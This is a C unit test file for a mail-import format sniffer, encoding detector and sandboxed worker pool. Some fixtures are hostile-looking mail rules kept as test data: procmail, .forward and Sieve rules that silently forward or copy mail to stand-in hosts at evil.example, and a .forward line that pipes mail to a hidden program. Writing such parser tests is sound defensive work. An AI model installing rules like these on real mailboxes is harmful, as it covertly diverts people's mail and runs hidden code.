/* What a file is, from its first bytes (parse/import.h). */
#include "parse/import.h"
#include "parse/pool.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#define BYTES(text)                                                                                \
    {                                                                                              \
        text, sizeof(text) - 1                                                                     \
    }

static const struct {
    const char *what;
    struct str head;
    const char *name;
    enum import_kind want;
    const char *format;
} files[] = {
    {"nothing", BYTES(""), "a.eml", IMPORT_EMPTY, "empty"},
    {"a mail", BYTES("From: a@b.example\nSubject: x\n\nhi\n"), "x.txt", IMPORT_MESSAGE, "eml"},
    {"a mail with CR LF", BYTES("Received: by x\r\n\tfor y\r\nDate: z\r\n\r\nhi\r\n"), "",
     IMPORT_MESSAGE, "eml"},
    {"a mail with CR alone", BYTES("From: a\rTo: b\r\rhi\r"), "", IMPORT_MESSAGE, "eml"},
    {"a mail behind blank lines", BYTES("\n\nFrom: a\nTo: b\n\nx"), "", IMPORT_MESSAGE, "eml"},
    {"a mail with recipes in it", BYTES("From: a\nSubject: b\n\nMine:\n:0\n* ^From\n/dev/null\n"),
     "", IMPORT_MESSAGE, "eml"},
    {"a mail with a style sheet's lines", BYTES("Subject: b\n\n<td style=x\n:0;y\n:0px}\n* a\n{\n"),
     "", IMPORT_MESSAGE, "eml"},
    {"a mail with a filter in it", BYTES("From: a\nTo: b\n\n{\"filtername\": \"x\"}\n"), "",
     IMPORT_MESSAGE, "eml"},
    {"a mail about rules", BYTES("From: a\nTo: b\n\n# rule:[x]\nfiltername:\nactions:\n"), "",
     IMPORT_MESSAGE, "eml"},
    {"recipes", BYTES("MAILDIR=x\n:0 Wc: l.lock\n* ^Subject: pay\n! z@evil.example\n"), "x",
     IMPORT_RULES, "procmail"},
    {"an mbox", BYTES("From a@b.example Mon Jan  1 10:00:00 2024\nSubject: x\n\nhi\n"), "x.eml",
     IMPORT_MBOX, "mbox"},
    {"an mbox with a bare separator", BYTES("From \nSubject: x\n\nhi\n"), "", IMPORT_MBOX, "mbox"},
    {"a letter that says From", BYTES("From the desk of the chairman\nDear all,\n"), "a.txt",
     IMPORT_UNKNOWN, ""},
    {"a settings file", BYTES("Name: value\nColour: red\n"), "a.conf", IMPORT_UNKNOWN, ""},
    {"a broken mail by its name", BYTES("no header here\n"), "a.eml", IMPORT_MESSAGE, "eml"},
    {"the same without the name", BYTES("no header here\n"), "a.msg", IMPORT_UNKNOWN, ""},
    {"a zip", BYTES("PK\3\4\0\0\0\0"), "mail.mbox", IMPORT_ARCHIVE, "zip"},
    {"a PST", BYTES("!BDN\0\0\0\0"), "x", IMPORT_PST, "pst"},
    {"Sieve", BYTES("# mine\nrequire [\"fileinto\"];\nif true { keep; }\n"), "x", IMPORT_RULES,
     "sieve"},
    {"Sieve without require", BYTES("if header :is \"x\" \"y\" { discard; }\n"), "x", IMPORT_RULES,
     "sieve"},
    {"a .forward", BYTES("z@evil.example\n\\an\n"), "x", IMPORT_RULES, "forward"},
    {"one that runs a program", BYTES("\"|/tmp/.x/run\"\n"), "x", IMPORT_RULES, "forward"},
    {"one that files, by its name", BYTES("/home/an/mbox\n"), ".forward", IMPORT_RULES, "forward"},
    {"one that was renamed", BYTES("/home/an/mbox\n"), "forward.txt", IMPORT_RULES, "forward"},
    {"a list of folders", BYTES("# libraries\n/usr/local/lib\n/usr/lib\n"), "x.conf",
     IMPORT_UNKNOWN, ""},
    {"a list of files", BYTES("/home/an/mbox\n"), "paths.txt", IMPORT_UNKNOWN, ""},
    {"a shell script", BYTES("if test -f x; then echo; fi\n"), "x.sieve", IMPORT_UNKNOWN, ""},
};

static void files_are_recognised_by_their_content(void **state)
{
    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(files); i++) {
        struct import_sight sight, back;
        struct arena arena = {0};
        struct error err = {0};
        struct buf blob;

        import_sniff(&sight, &arena, NULL, files[i].head, files[i].head.len, files[i].name);
        if (sight.kind != files[i].want || strcmp(sight.format, files[i].format) != 0)
            fail_msg("%s: kind %d, format \"%s\"", files[i].what, sight.kind, sight.format);
        assert_int_equal(import_is_archive(sight.format), sight.kind == IMPORT_ARCHIVE);
        if (sight.kind == IMPORT_UNKNOWN && !strstr(sight.why, "NOTHING of it was examined"))
            fail_msg("%s: it is not said that nothing was examined", files[i].what);
        buf_init(&blob, 4096);
        import_sight_encode(&sight, &blob);
        assert_true(import_sight_decode(&back, &arena, buf_as_str(&blob), &err));
        assert_int_equal(back.kind, sight.kind);
        assert_string_equal(back.title, sight.title);
        assert_string_equal(back.why, sight.why);
        buf_dispose(&blob);
        arena_dispose(&arena);
    }
}

static void a_sight_with_a_format_nobody_has_is_not_believed(void **state)
{
    struct import_sight sight = {.kind = IMPORT_RULES, .format = "no such", .title = "", .why = ""};
    struct arena arena = {0};
    struct error err = {0};
    struct buf blob;

    (void)state;
    buf_init(&blob, 4096);
    import_sight_encode(&sight, &blob);
    assert_false(import_sight_decode(&sight, &arena, buf_as_str(&blob), &err));
    buf_dispose(&blob);
    arena_dispose(&arena);
}

static const struct {
    const char *what;
    struct str bytes;
    const char *text, *encoding;
} encodings[] = {
    {"plain", BYTES("abc"), "abc", "UTF-8"},
    {"with a mark",
     BYTES("\xef\xbb\xbf"
           "abc"),
     "abc", "UTF-8 with BOM"},
    {"wide with a mark",
     BYTES("\xff\xfe"
           "a\0b\0"),
     "ab", "UTF-16LE with BOM"},
    {"wide, big end first",
     BYTES("\xfe\xff"
           "\0a\0b"),
     "ab", "UTF-16BE with BOM"},
    {"wide without a mark", BYTES("N\0a\0m\0e\0,\0F\0r\0o\0m\0,\0x\0"), "Name,From,x",
     "UTF-16LE without BOM"},
    {"a pair", BYTES("\xff\xfe\x3d\xd8\x00\xde"), "\xf0\x9f\x98\x80", "UTF-16LE with BOM"},
    {"half a pair",
     BYTES("\xff\xfe\x3d\xd8"
           "a\0"),
     "\xef\xbf\xbd"
     "a",
     "UTF-16LE with BOM"},
    {"Latin-1", BYTES("caf\xe9"), "caf\xef\xbf\xbd", "not UTF-8"},
    {"no text", BYTES("\x89PNG\0\0"), "\xef\xbf\xbdPNG\xef\xbf\xbd\xef\xbf\xbd", "binary"},
};

static void text_is_read_in_the_encoding_it_has(void **state)
{
    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(encodings); i++) {
        struct arena arena = {0};
        struct import_text text;

        import_text_of(&text, &arena, encodings[i].bytes);
        assert_string_equal(text.encoding, encodings[i].encoding);
        if (!str_equal(text.text, str_of(encodings[i].text)))
            fail_msg("%s: \"%.*s\"", encodings[i].what, (int)text.text.len, text.text.at);
        arena_dispose(&arena);
    }
}

/* --- through the jail --- */

struct seen {
    unsigned answers;
    enum import_kind kind;
    size_t rules;
    char forward[64];
};

static void take(void *arg, const struct pool_result *result)
{
    struct seen *seen = arg;
    struct arena arena = {0};
    struct error err = {0};

    seen->answers++;
    assert_int_equal(result->status, POOL_OK);
    if (result->kind == POOL_SNIFF) {
        struct import_sight sight;

        assert_true(import_sight_decode(&sight, &arena, result->blob, &err));
        seen->kind = sight.kind;
    } else {
        struct rule_script script;

        assert_true(pool_script(&script, &arena, result->blob, &err));
        seen->rules = script.count;
        strncpy(seen->forward, script.rules[0].actions[0].argument, sizeof(seen->forward) - 1);
    }
    arena_dispose(&arena);
}

static void a_worker_looks_and_reads(void **state)
{
    static const char script[] = "require [\"copy\"];\nredirect :copy \"drop@evil.example\";\n";
    const struct role_options options = {.program = PROGRAM};
    struct pool_work work = {.kind = POOL_SNIFF,
                             .fd = -1,
                             .bytes = str_of(script),
                             .size = sizeof(script) - 1,
                             .name = "x"};
    struct seen seen = {0};
    struct error err = {0};
    struct pool *pool = pool_new(&options, 1, take, &seen);

    (void)state;
    assert_true(pool_give(pool, &work, &err));
    assert_true(pool_drain(pool, &err));
    assert_int_equal(seen.kind, IMPORT_RULES);
    work.kind = POOL_EXPORT;
    work.format = "sieve";
    assert_true(pool_give(pool, &work, &err));
    assert_true(pool_drain(pool, &err));
    assert_int_equal(seen.answers, 2);
    assert_int_equal(seen.rules, 1);
    assert_string_equal(seen.forward, "drop@evil.example");
    pool_free(pool);
}

int main(void)
{
    static const struct CMUnitTest tests[] = {
        cmocka_unit_test(files_are_recognised_by_their_content),
        cmocka_unit_test(a_sight_with_a_format_nobody_has_is_not_believed),
        cmocka_unit_test(text_is_read_in_the_encoding_it_has),
        cmocka_unit_test(a_worker_looks_and_reads),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
